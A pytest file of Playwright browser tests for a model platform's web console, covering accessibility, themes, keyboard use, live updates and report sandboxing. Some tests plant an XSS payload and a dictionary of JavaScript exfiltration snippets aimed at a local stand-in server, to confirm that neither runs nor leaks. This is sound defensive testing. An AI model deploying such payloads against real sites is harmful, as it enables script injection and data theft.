"""The console in a real browser: Chromium, light and dark, wide and narrow, by mouse, by keyboard, without scripts."""

from __future__ import annotations

import shutil
import threading
import time
from collections.abc import Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.ray_apps.console import test_pages
from tests.ray_apps.console.browser import LOOKS, WIDE, Person, Served, needs_chromium, person, serve
from tests.ray_apps.console.conftest import make_platform
from tests.ray_apps.console.sample_platform import MODEL
from tests.waiting import until
from toque.functions.live_counts import End, SplitArm, live_publisher

pytestmark = [pytest.mark.slow, needs_chromium]
VERSION = f"/ui/models/{MODEL}/versions/5"
PAGES = (*test_pages.PAGES, "/ui/rollouts/churn", "/ui/nothing-here", "/docs")
MAX_PAGE_BYTES = 300_000
_HIDE = """(hidden) => {
  Object.defineProperty(document, "hidden", { value: hidden, configurable: true });
  document.dispatchEvent(new Event("visibilitychange"));
}"""


@pytest.fixture
def served(filled: Path, counting: str, tmp_path: Path) -> Iterator[Served]:
    shutil.copytree(filled, tmp_path / "store")
    with serve(make_platform(tmp_path / "store", counting)) as running:
        yield running


@pytest.mark.long
def test_no_page_has_a_barrier_overflows_or_loads_from_elsewhere(chromium: Any, served: Served) -> None:
    from axe_playwright_python.sync_playwright import Axe

    visitor = person(chromium, served)
    axe, found = Axe(), []
    visitor.go("/ui/sign-in")
    found += _barriers(axe, visitor, "/ui/sign-in")
    visitor.sign_in(served.platform.tokens["admin"])
    for path in PAGES:
        visitor.go(path)
        found += _barriers(axe, visitor, path)
        loaded = visitor.page.evaluate(
            "performance.getEntries().reduce((sum, each) => sum + (each.encodedBodySize || 0), 0)"
        )
        assert 0 < loaded < MAX_PAGE_BYTES, (path, loaded)
    assert not found
    assert not visitor.elsewhere
    assert not visitor.complaints
    visitor.page.context.close()


def _barriers(axe: Any, visitor: Person, path: str) -> list[str]:
    """Look at a page once in each look; it is loaded in the last of the page before, so that each is loaded into."""
    found = []
    for name, look in LOOKS.items() if visitor.page.viewport_size == WIDE else reversed(LOOKS.items()):
        visitor.page.emulate_media(color_scheme=look["color_scheme"])
        visitor.page.set_viewport_size(look["viewport"])
        found += [
            f"{path}, {name}: {violation['id']}: {[node['html'][:160] for node in violation['nodes'][:3]]}"
            for violation in axe.run(visitor.page).response["violations"]
        ]
        if visitor.page.evaluate("document.documentElement.scrollWidth") > look["viewport"]["width"]:
            found.append(f"{path}, {name}: wider than the screen")
    return found


def test_times_are_the_viewers_own_with_utc_on_hover(chromium: Any, served: Served) -> None:
    visitor = person(chromium, served, locale="en-GB")
    visitor.sign_in(served.platform.tokens["viewer"])
    visitor.go(f"/ui/rollouts/{MODEL}")
    shown = visitor.page.locator("time").first
    assert shown.get_attribute("title") == "2026-02-24 09:30:00 UTC"
    assert shown.inner_text() == "24 Feb 2026, 04:30"
    visitor.page.context.close()


def test_a_models_page_leads_to_the_playground_with_that_model_chosen(chromium: Any, served: Served) -> None:
    visitor = person(chromium, served)
    visitor.sign_in(served.platform.tokens["operator"])
    visitor.go(f"/ui/models/{MODEL}")
    visitor.click("text=ask it")
    visitor.page.fill("#token", served.platform.tokens["operator"])
    visitor.page.press("#token", "Tab")
    visitor.page.wait_for_selector("#model option", state="attached")
    assert visitor.page.input_value("#model") == MODEL  # the first of the list is another
    assert visitor.page.input_value("#workspace") == "default"
    visitor.page.context.close()


def test_the_lineage_of_a_served_version_is_seen_whole_in_a_wide_window(
    chromium: Any, served: Served
) -> None:
    visitor = person(chromium, served)
    visitor.sign_in(served.platform.tokens["viewer"])
    visitor.go(f"/ui/models/{MODEL}/versions/4")
    region = visitor.page.locator("[aria-label=Lineage]")
    assert "of this version" in region.text_content()  # its predictions, which come last
    assert region.evaluate("each => each.scrollWidth <= each.clientWidth")
    visitor.page.context.close()


def test_the_chosen_colours_stay_and_come_without_a_flash(chromium: Any, served: Served) -> None:
    visitor = person(chromium, served, color_scheme="light")
    visitor.sign_in(served.platform.tokens["viewer"])
    background = "getComputedStyle(document.body).backgroundColor"
    light = visitor.page.evaluate(background)
    visitor.click("text=Dark")
    dark = visitor.page.evaluate(background)
    assert dark != light
    visitor.go("/ui/models")
    assert visitor.page.locator("html").get_attribute("data-theme") == "dark"  # as the server sent it
    assert visitor.page.evaluate(background) == dark
    visitor.page.context.close()


def test_the_keyboard_skips_to_the_content_and_reaches_the_menus(chromium: Any, served: Served) -> None:
    visitor = person(chromium, served)
    visitor.sign_in(served.platform.tokens["viewer"])
    visitor.go("/ui/models")
    visitor.page.keyboard.press("Tab")
    assert visitor.page.evaluate("document.activeElement.textContent") == "Skip to the content"
    visitor.page.keyboard.press("Enter")
    assert visitor.page.evaluate("document.activeElement.id") == "main"
    visitor.page.focus(".account summary")
    visitor.page.keyboard.press("Enter")
    assert visitor.page.is_visible("text=Sign out")
    visitor.page.keyboard.press("Escape")
    assert not visitor.page.is_visible("text=Sign out")
    visitor.page.context.close()


def test_without_scripts_one_signs_in_approves_and_signs_out(chromium: Any, served: Served) -> None:
    visitor = person(chromium, served, java_script_enabled=False)
    visitor.sign_in(served.platform.tokens["approver"])
    visitor.go(VERSION)
    visitor.page.click("text=Approve version 5")
    visitor.page.wait_for_selector("text=is approved by you")
    visitor.page.click(".account summary")
    visitor.page.click("text=Sign out")
    visitor.page.wait_for_selector("text=You have signed out")
    visitor.go("/ui/")
    assert visitor.page.is_visible("#token")
    visitor.page.context.close()


def test_a_script_in_a_text_never_runs(chromium: Any, served: Served) -> None:
    registry = served.platform.context.registry()
    hostile = "<img src=x onerror=\"document.title='taken'\"><script>document.title='taken'</script>"
    registry.create_model("hostile", description=hostile, tags={"t": hostile})
    visitor = person(chromium, served)
    visitor.sign_in(served.platform.tokens["viewer"])
    for path in ("/ui/models", "/ui/models/hostile"):
        visitor.go(path)
        assert "taken" not in visitor.page.title()
        assert hostile in visitor.page.inner_text("main")
    visitor.page.context.close()


REACHING = {
    "navigation": "location.href = ELSEWHERE + '/navigation?' + said",
    "top": "try { top.location.href = ELSEWHERE + '/top?' + said } catch (error) {}",
    "window": "try { window.open(ELSEWHERE + '/window?' + said) } catch (error) {}",
    "refresh": "document.head.innerHTML += `<meta http-equiv=refresh content='0;url=${ELSEWHERE}/refresh?${said}'>`",
    "image": "new Image().src = ELSEWHERE + '/image?' + said",
    "fetch": "fetch(ELSEWHERE + '/fetch?' + said).catch(() => 0)",
    "beacon": "try { navigator.sendBeacon(ELSEWHERE + '/beacon', said) } catch (error) {}",
    "form": "const form = document.createElement('form'); form.action = ELSEWHERE + '/form'; document.body.append(form); form.submit()",
    "frame": "document.body.innerHTML += `<iframe src='${ELSEWHERE}/frame?${said}'></iframe>`",
    "link": "const a = document.createElement('a'); a.href = ELSEWHERE + '/link'; a.target = '_top'; document.body.append(a); a.click()",
    "download": "const b = document.createElement('a'); b.href = ELSEWHERE + '/b'; b.download = 'x'; document.body.append(b); b.click()",
    "prefetch": "document.head.innerHTML += `<link rel=prefetch href='${ELSEWHERE}/prefetch?${said}'>`",
    "preconnect": "document.head.innerHTML += `<link rel=preconnect href='${ELSEWHERE}'>`",
    "socket": "try { new WebSocket(ELSEWHERE.replace('http', 'ws') + '/socket') } catch (error) {}",
    "worker": "try { new Worker(ELSEWHERE + '/worker.js') } catch (error) {}",
    "opener": "try { parent.postMessage(said, '*'); parent.document.title = said } catch (error) {}",
}


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Address of another server, and what it was asked for."""
    asked: list[str] = []

    class Server(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the name that the library calls

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Server) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()


def test_a_report_sends_nothing_elsewhere_whatever_its_scripts_try(
    chromium: Any, served: Served, elsewhere: tuple[str, list[str]]
) -> None:
    from playwright.sync_api import Error as PlaywrightError  # late: only where there is a browser

    address, asked = elsewhere
    store = served.platform.context.store
    for name, script in {**REACHING, "nothing": ""}.items():
        page = (
            f"<p id=said>loss 0.41</p><script>const ELSEWHERE = {address!r}, said = 'loss'; {script};"
            "document.getElementById('said').textContent += ' drawn'</script>"
        )
        store.put(f"reports/{name}.html", page.encode())
    visitor = person(chromium, served)
    visitor.sign_in(served.platform.tokens["viewer"])

    def ran() -> bool:
        frame = visitor.page.frames[1]
        with suppress(PlaywrightError):  # it is on its way elsewhere
            said = frame.query_selector("#said")
            return frame.url.startswith("chrome-error:") or (
                said is not None and "drawn" in said.inner_text()
            )
        return False

    for name in REACHING:
        visitor.go(f"/ui/reports/{name}.html")
        until(ran)
        assert visitor.page.url == f"{served.url}/ui/reports/{name}.html"
        visitor.go(f"/ui/reports/{name}.html/content")
        assert visitor.page.inner_text("#said") == "loss 0.41"  # by itself no script runs
    visitor.go("/ui/reports/nothing.html")
    assert visitor.page.frame_locator("iframe.report").locator("#said").inner_text() == "loss 0.41 drawn"
    assert asked == []
    visitor.page.context.close()


def test_what_changes_on_the_platform_changes_on_the_page_within_two_seconds(
    chromium: Any, served: Served
) -> None:
    visitor = person(chromium, served)
    visitor.sign_in(served.platform.tokens["viewer"])
    visitor.go(VERSION)
    registry, took_s = served.platform.context.registry(), []
    for name in ("grace", "joan", "mary"):  # a busy machine may be late with one of them
        _until_followed(served)
        assert not visitor.page.is_visible("text=Something changed: show it")
        registry.as_actor(name).approve(MODEL, 5, comment=f"seen by {name}")
        began = time.monotonic()
        visitor.page.wait_for_selector(f"text=seen by {name}")
        took_s.append(time.monotonic() - began)
    assert min(took_s) < 2.0
    visitor.page.context.close()


def test_a_change_takes_nothing_away_that_somebody_writes(chromium: Any, served: Served) -> None:
    visitor = person(chromium, served)
    visitor.sign_in(served.platform.tokens["approver"])
    visitor.go(VERSION)
    visitor.page.fill("#approve-comment", "half a sent")
    _until_followed(served)
    served.platform.context.registry().as_actor("grace").approve(MODEL, 5, comment="seen from afar")
    visitor.page.wait_for_selector("text=Something changed: show it")
    assert visitor.page.input_value("#approve-comment") == "half a sent"
    visitor.page.click("text=Something changed: show it")
    visitor.page.wait_for_selector("text=seen from afar")
    visitor.page.context.close()


def test_a_change_leaves_the_focus_and_the_notice_where_they_are(chromium: Any, served: Served) -> None:
    visitor = person(chromium, served)
    visitor.sign_in(served.platform.tokens["approver"])
    visitor.go(VERSION)
    visitor.page.fill("#approve-comment", "good")
    visitor.page.locator("#approve-comment").press("Enter")
    visitor.page.wait_for_selector("text=is approved by you")
    registry = served.platform.context.registry()
    for name, focused in (("grace", "main button.danger"), ("joan", "main summary, main [tabindex='0']")):
        element = visitor.page.locator(focused).first
        element.focus()
        _until_followed(served)
        registry.as_actor(name).approve(MODEL, 5, comment=f"seen by {name}")
        visitor.page.wait_for_selector(f"text=seen by {name}")
        assert visitor.page.evaluate("document.querySelector('main').contains(document.activeElement)")
        assert visitor.page.evaluate(f'document.activeElement.matches("{focused}")')
        assert visitor.page.is_visible("text=is approved by you")
    visitor.page.context.close()


def test_revoking_a_token_asks_before_it_acts(chromium: Any, served: Served) -> None:
    visitor = person(chromium, served)
    visitor.sign_in(served.platform.tokens["admin"])
    visitor.go("/ui/tokens")
    questions: list[str] = []
    visitor.page.once("dialog", lambda dialog: (questions.append(dialog.message), dialog.dismiss()))
    visitor.page.click("[aria-label='Revoke a-viewer']")
    assert "a-viewer" in questions[0]
    assert "a-viewer is revoked" not in visitor.page.content()
    visitor.page.once("dialog", lambda dialog: dialog.accept())
    visitor.page.click("[aria-label='Revoke a-viewer']")
    visitor.page.wait_for_selector("text=a-viewer is revoked")
    visitor.page.context.close()


def test_a_page_that_is_hidden_follows_nothing_until_it_is_seen_again(chromium: Any, served: Served) -> None:
    visitor = person(chromium, served)
    visitor.sign_in(served.platform.tokens["viewer"])
    visitor.go(VERSION)
    _until_followed(served)
    live = served.platform.app.state.console.live
    visitor.page.evaluate(_HIDE, True)
    until(lambda: live._streams == 0)
    served.platform.context.registry().as_actor("grace").approve(MODEL, 5, comment="while away")
    visitor.page.evaluate(_HIDE, False)
    visitor.page.wait_for_selector("text=while away")
    assert live._streams == 1
    visitor.page.context.close()


def test_rates_of_an_arm_move_while_one_looks(chromium: Any, served: Served, counting: str) -> None:
    visitor = person(chromium, served)
    visitor.sign_in(served.platform.tokens["viewer"])
    visitor.go(f"/ui/traffic/{MODEL}")
    cell = visitor.page.locator("[data-figure='canary@4/errors']")
    before = cell.inner_text()
    publisher = live_publisher(counting)
    tally = publisher.tally("default", MODEL)
    for number in range(40):
        tally.count(SplitArm(21, 4, "canary", 0.1), f"unit-{number}", End.ERROR, 9.0)
    publisher.send()
    deadline = time.monotonic() + 20
    while cell.inner_text() == before:
        assert time.monotonic() < deadline
        visitor.page.wait_for_timeout(100)
    assert int(cell.inner_text()) >= 40
    visitor.page.context.close()


def _until_followed(served: Served) -> None:
    """Wait until announcements reach the pages that are open, and what the connection itself announced is told."""
    live = served.platform.app.state.console.live
    deadline = time.monotonic() + 20
    while not any(_is_followed(topic) for topic in list(live._topics.values())):
        assert time.monotonic() < deadline, "nobody follows"
        time.sleep(0.05)


def _is_followed(topic: Any) -> bool:
    watch = topic.watch
    if watch is None or not topic.listeners or not watch._feed.covers(watch):
        return False
    return not watch._changed.is_set() and all(queue.empty() for queue in list(topic.listeners))
